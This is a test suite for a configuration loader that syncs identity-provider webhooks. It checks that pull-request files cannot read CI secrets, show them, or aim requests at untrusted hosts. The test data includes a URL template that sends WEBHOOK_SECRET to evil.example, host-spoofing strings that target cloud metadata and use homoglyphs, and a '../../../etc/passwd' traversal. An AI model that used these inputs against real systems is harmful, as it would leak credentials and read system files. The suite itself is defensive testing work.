import { describe, expect, it } from "vitest";
import { parseHost } from "../../../src/config/host.ts";
import { ACCESS_KEY, fileWith, load, only, repoWith, told, webhook } from "./repo.ts";

/** What CI has, and who writes a pull request wants. */
const CI = {
  ...ACCESS_KEY,
  GENAUTH_ACME_KEY_ID: "acme-key",
  GENAUTH_ACME_KEY_SECRET: "canary-acme",
  GENAUTH_SECRET: "canary-bare",
  AUTHING_ACCESS_KEY_SECRET: "canary-authing",
  GENAUTH_HOST: "https://sso.corp.example:8443",
  WEBHOOK_SECRET: "canary-webhook",
  WEBHOOK_PUBLIC_HOST: "hooks.acme.example",
  HOOKSYNC_FINGERPRINT_KEY: "canary-fingerprint",
  AWS_SECRET_ACCESS_KEY: "canary-aws",
  ACME_TOKEN: "canary-token",
};

const tenantWith = (line: string, top = "") => `version: 1\ntenant:\n  ${line}\n${top}webhooks: {}\n`;

describe("a file of a pull request", () => {
  it.each([
    ["another variable", fileWith("secret: ${env:AWS_SECRET_ACCESS_KEY}")],
    ["another variable through vars", fileWith("secret: ${var:x}", "vars: { x: '${env:AWS_SECRET_ACCESS_KEY}' }\n")],
    ["another variable with a default", fileWith("secret: ${env:AWS_SECRET_ACCESS_KEY:-none}")],
    ["another variable under tenant", tenantWith("accessKeySecret: ${env:AWS_SECRET_ACCESS_KEY}")],
    ["the fingerprint key", fileWith("secret: ${env:HOOKSYNC_FINGERPRINT_KEY}")],
    ["the access key in a webhook", fileWith("secret: ${env:GENAUTH_ACCESS_KEY_SECRET}")],
    ["the access key in a variable", fileWith("secret: ${var:x}", "vars: { x: '${env:GENAUTH_ACME_KEY_SECRET}' }\n")],
    ["a key's id in a webhook", fileWith("secret: ${env:GENAUTH_ACME_KEY_ID}")],
    ["a key's id in a variable", tenantWith("accessKeyId: ${var:x}", "vars: { x: '${env:GENAUTH_ACME_KEY_ID}' }\n")],
    ["a name it puts together", fileWith("secret: ${env:${var:x}}", "vars: { x: WEBHOOK_SECRET }\n")],
  ])("cannot read %s", async (_, text) => {
    const { files } = await load(text, { purpose: "offline", env: CI });
    expect(files[0]?.error?.code).toBe("CONFIG_INVALID");
    expect(JSON.stringify(files)).not.toContain("canary");
  });

  it.each([
    ["a url", fileWith("url: https://evil.example/${env:WEBHOOK_SECRET}")],
    ["a url through vars", fileWith("url: https://evil.example/${var:x}", "vars: { x: '${env:WEBHOOK_SECRET}' }\n")],
    ["a name", fileWith("name: ${env:WEBHOOK_SECRET}")],
    ["a name with a default", fileWith("name: ${env:WEBHOOK_SECRET:-x}")],
    [
      "an event",
      fileWith("events2: x").replace("events2: x", "formerly: [b]").replace("login", '"${env:WEBHOOK_SECRET}"'),
    ],
    ["a content type", fileWith("contentType: ${env:WEBHOOK_SECRET}")],
    ["an extra event", fileWith("name: x", 'extraEvents: ["${env:WEBHOOK_SECRET}"]\n')],
    ["the tenant's name", tenantWith("name: ${env:WEBHOOK_SECRET}")],
    ["the tenant's name as an id", tenantWith("name: ${env:GENAUTH_ACME_KEY_ID}")],
    ["the B2B tenant", tenantWith("appTenantId: ${env:WEBHOOK_SECRET}")],
    ["the CA file", tenantWith("caFile: ${env:WEBHOOK_SECRET}")],
    ["the host", tenantWith("host: https://${env:WEBHOOK_SECRET}.genauth.ai")],
    ["the user pool", tenantWith("userPoolId: ${env:WEBHOOK_SECRET}")],
    ["the user pool, of an access key", tenantWith("userPoolId: ${env:GENAUTH_ACME_KEY_SECRET}")],
    ["the access key's id", tenantWith("accessKeyId: ${env:WEBHOOK_SECRET}")],
    ["the access key's id, of its secret", tenantWith("accessKeyId: ${env:GENAUTH_ACME_KEY_SECRET}")],
    ["the access key's id, of a bare secret", tenantWith("accessKeyId: ${env:GENAUTH_SECRET}")],
    ["the access key's id, of the other dialect", tenantWith("accessKeyId: ${env:AUTHING_ACCESS_KEY_SECRET}")],
    ["the access key's id through vars", tenantWith("accessKeyId: ${var:x}", "vars: { x: '${env:WEBHOOK_SECRET}' }\n")],
    ["a part of the access key's secret", tenantWith("accessKeySecret: a${env:GENAUTH_ACME_KEY_SECRET}")],
    ["two secrets as one", tenantWith("accessKeySecret: '${env:GENAUTH_ACME_KEY_SECRET}${env:GENAUTH_SECRET}'")],
  ])("cannot show a secret as %s", async (_, text) => {
    const { files } = await load(text, { purpose: "offline", env: CI });
    expect(files[0]?.error?.code).toBe("CONFIG_INVALID");
    expect(files[0]?.diagnostics.map(({ rule }) => rule)).toContain("secret-in-the-open");
    expect(JSON.stringify(files)).not.toContain("canary");
  });

  it("is refused alike whether the variable is set or not, so that reviews in CI without secrets see it", async () => {
    const text = fileWith("url: https://evil.example/${env:WEBHOOK_SECRET:-x}\nsecret: ${env:NOT_SET}");
    const unset = await load(text, { env: {} });
    const set = await load(text, { env: { ...CI, NOT_SET: "x" } });
    expect(told(unset.diagnostics)).toEqual([
      "secret-in-the-open 5:31 WEBHOOK_SECRET is secret, and this field is shown",
      "untrusted-reference 6:13 this file may not read NOT_SET",
    ]);
    expect(told(set.diagnostics)).toEqual(told(unset.diagnostics));
  });

  it("may use its own secrets in secrets, its own variables in the open, and access keys as such", async () => {
    const loaded = await load(
      `${tenantWith(
        "accessKeyId: ${env:GENAUTH_ACME_KEY_ID}\n  accessKeySecret: ${env:GENAUTH_ACME_KEY_SECRET}",
        "vars: { s: '${env:WEBHOOK_SECRET}' }\n",
      ).replace(
        "webhooks: {}\n",
        "",
      )}${fileWith("url: https://${env:WEBHOOK_PUBLIC_HOST}/x\nsecret: ${var:s}").replace("version: 1\n", "")}`,
      { purpose: "plan", env: CI },
    );
    const { connection, secrets, desired } = only(loaded);
    expect(connection?.accessKeyId).toBe("acme-key");
    expect(connection?.accessKeySecret.reveal()).toBe("canary-acme");
    expect(secrets.get("a")?.reveal()).toBe("canary-webhook");
    expect(desired.webhooks.get("a")).toMatchObject({
      spec: { url: "https://hooks.acme.example/x" },
      secretRef: "${env:WEBHOOK_SECRET}",
    });
    expect(JSON.stringify([...desired.webhooks])).not.toContain("canary");
  });
});

describe("the operator", () => {
  it("lets files read more with --env-allow, which still does not show it", async () => {
    const secret = fileWith("secret: ${env:ACME_TOKEN}");
    const shown = fileWith("name: ${env:ACME_TOKEN}");
    const options = { purpose: "offline", env: CI, envAllow: ["ACME_*"] } as const;
    expect(
      only(await load(secret, options))
        .secrets.get("a")
        ?.reveal(),
    ).toBe("canary-token");
    expect(told((await load(shown, options)).diagnostics)).toEqual([
      "secret-in-the-open 6:11 ACME_TOKEN is secret, and this field is shown",
    ]);
    expect((await load(secret, { ...options, envAllow: ["ACME", "TOKEN", "CME_TOKEN", "acme_*"] })).tenants).toEqual(
      [],
    );
  });

  it("lets values be shown with --env-public", async () => {
    const loaded = await load(fileWith("name: ${env:ACME_TOKEN}"), {
      env: { ACME_TOKEN: "Acme" },
      envPublic: ["ACME_*"],
    });
    expect(webhook(loaded, "a").spec.name).toBe("Acme");
  });

  it("cannot by accident let access keys out with either", async () => {
    const options = { purpose: "offline", env: CI, envAllow: ["*"], envPublic: ["*"] } as const;
    for (const text of [
      fileWith("secret: ${env:GENAUTH_ACCESS_KEY_SECRET}"),
      fileWith("name: ${env:GENAUTH_ACME_KEY_SECRET}"),
      tenantWith("accessKeyId: ${env:AUTHING_ACCESS_KEY_SECRET}"),
    ]) {
      const { files } = await load(text, options);
      expect(files[0]?.error?.code).toBe("CONFIG_INVALID");
    }
  });
});

describe("a host in a file", () => {
  const hostOf = async (host: string, more: object = {}) => {
    const { files } = await load(tenantWith(`host: ${JSON.stringify(host)}`), { env: CI, ...more });
    return files[0]?.tenant?.desired.target.host ?? files[0]?.diagnostics.map(({ rule }) => rule).join();
  };

  it.each([
    ["https://api.genauth.ai", "https://api.genauth.ai"],
    ["https://API.GenAuth.AI/", "https://api.genauth.ai"],
    ["https://api.genauth.ai:443", "https://api.genauth.ai"],
    ["https://core.eu.authing.cn", "https://core.eu.authing.cn"],
    ["http://localhost:4010", "http://localhost:4010"],
    ["http://127.0.0.1:4010", "http://127.0.0.1:4010"],
    ["http://[::1]:4010", "http://[::1]:4010"],
    ["https://sso.corp.example:8443", "https://sso.corp.example:8443"],
  ])("may be %s", async (host, origin) => {
    expect(await hostOf(host)).toBe(origin);
  });

  it.each([
    "https://evil.example",
    "https://evil-genauth.ai",
    "https://genauth.ai.evil.example",
    "https://api.genauth.ai.evil.example",
    "https://api.genauth.aj",
    "https://xgenauth.ai",
    "https://localhost.evil.example",
    "https://127.0.0.1.evil.example",
    "https://0.0.0.0",
    "https://169.254.169.254",
    "https://sso.corp.example",
    "https://sso.corp.example:9999",
    "https://api.xn--genauth-0za.ai",
    "https://[::ffff:10.0.0.1]",
  ])("may not be %s", async (host) => {
    expect(await hostOf(host)).toBe("untrusted-host");
  });

  it.each([
    "https://api.genauth.ai@evil.example",
    "https://api.genauth.ai:443@evil.example",
    "https://evil.example/.genauth.ai",
    "https://evil.example#.genauth.ai",
    "https://evil.example?.genauth.ai",
    "https://evil.example\\.genauth.ai",
    "https://evil.example%2f.genauth.ai",
    "https://evil。genauth.ai",
    "https://api.genauth.ai.",
    "https://api..genauth.ai",
    "https://аpi.genauth.ai",
    "https://api.genauth.ai/api/v3",
    "http://api.genauth.ai",
    "http://localhost.evil.example",
    "https:api.genauth.ai",
    "https:///api.genauth.ai",
    "//api.genauth.ai",
    "api.genauth.ai",
    "ftp://api.genauth.ai",
    "https://api.genauth.ai:99999",
    " https://api.genauth.ai",
  ])("that is %j is no host", async (host) => {
    expect(await hostOf(host)).toBe("host");
  });

  it("may be what the operator names: a name, a pattern, or a name and port", async () => {
    for (const entry of [
      "sso.acme.example",
      "*.acme.example",
      "SSO.acme.example:8443",
      "https://sso.acme.example:8443/",
    ]) {
      expect(await hostOf("https://sso.acme.example:8443", { hostAllow: [entry] })).toBe(
        "https://sso.acme.example:8443",
      );
    }
    for (const entry of [
      "acme.example",
      "*.sso.acme.example",
      "https://sso.acme.example",
      "sso.acme.example:443",
      "ssoXacme.example",
    ]) {
      expect(await hostOf("https://sso.acme.example:8443", { hostAllow: [entry] })).toBe("untrusted-host");
    }
  });

  it("is not trusted because it came out of a variable", async () => {
    const env = { ...CI, GENAUTH_ACME_HOST: "https://evil.example" };
    const { diagnostics } = await load(tenantWith("host: ${env:GENAUTH_ACME_HOST}"), { env });
    expect(diagnostics.map(({ rule }) => rule)).toEqual(["untrusted-host"]);
  });

  it("is spelled in one way by everything that is taken for one", () => {
    for (const spelling of ["http://127.1", "http://2130706433", "http://0x7f.0.0.1", "http://017700000001"]) {
      expect(parseHost(spelling)).toEqual({ origin: "http://127.0.0.1" });
    }
  });
});

describe("a host in the environment", () => {
  it("is the operator's word, and must still be a host", async () => {
    const env = { GENAUTH_HOST: "https://sso.corp.example" };
    expect(only(await load("version: 1\nwebhooks: {}\n", { env })).desired.target).toMatchObject({
      host: "https://sso.corp.example",
      hostGiven: true,
      dialect: "authing",
    });
    const { diagnostics } = await load("version: 1\nwebhooks: {}\n", { env: { AUTHING_HOST: "sso.corp.example" } });
    expect(told(diagnostics)).toEqual(["host 1:1 AUTHING_HOST must be scheme and host name and nothing else"]);
  });

  it("gives way to the file's", async () => {
    const { desired } = only(
      await load(tenantWith("host: https://api.authing.cn"), { env: { GENAUTH_HOST: "https://api.genauth.ai" } }),
    );
    expect(desired.target).toMatchObject({ host: "https://api.authing.cn", hostGiven: true, dialect: "authing" });
  });
});

describe("a CA file", () => {
  const text = (path: string) => tenantWith(`caFile: ${path}`);

  it("is found from the file that names it, and stays in the repository", async () => {
    const repo = repoWith({
      "certs/root.pem": "PEM",
      "tenants/in.yaml": text("../certs/root.pem"),
      "tenants/out.yaml": text("../../../etc/passwd"),
      "tenants/none.yaml": text("../certs/none.pem"),
    });
    const run = async (file: string) => (await repo.load({ purpose: "plan", env: ACCESS_KEY }, file)).files[0];
    expect((await run("tenants/in.yaml"))?.tenant?.connection?.caFile).toBe(`${repo.folder}/certs/root.pem`);
    expect(told((await run("tenants/out.yaml"))?.diagnostics ?? [])).toEqual([
      "file-reference 3:11 ../../../etc/passwd is outside of what this file may read",
    ]);
    expect(told((await run("tenants/none.yaml"))?.diagnostics ?? [])).toEqual([
      "ca-file 3:11 there is no file ../certs/none.pem",
    ]);
  });
});
